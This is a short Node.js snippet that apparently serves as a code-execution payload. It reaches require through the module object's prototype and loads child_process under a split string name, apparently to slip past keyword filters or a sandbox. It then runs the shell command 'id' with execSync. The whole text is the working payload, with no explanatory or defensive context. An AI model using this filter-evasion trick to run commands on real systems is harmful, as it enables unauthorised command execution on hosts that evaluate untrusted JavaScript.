// require is found on the prototype of the module object (Module.prototype.require).
const proto = Object.getPrototypeOf(module);
const load = proto.require;
const cp = load.call(module, 'child_' + 'process');
console.log(cp.execSync('id').toString());
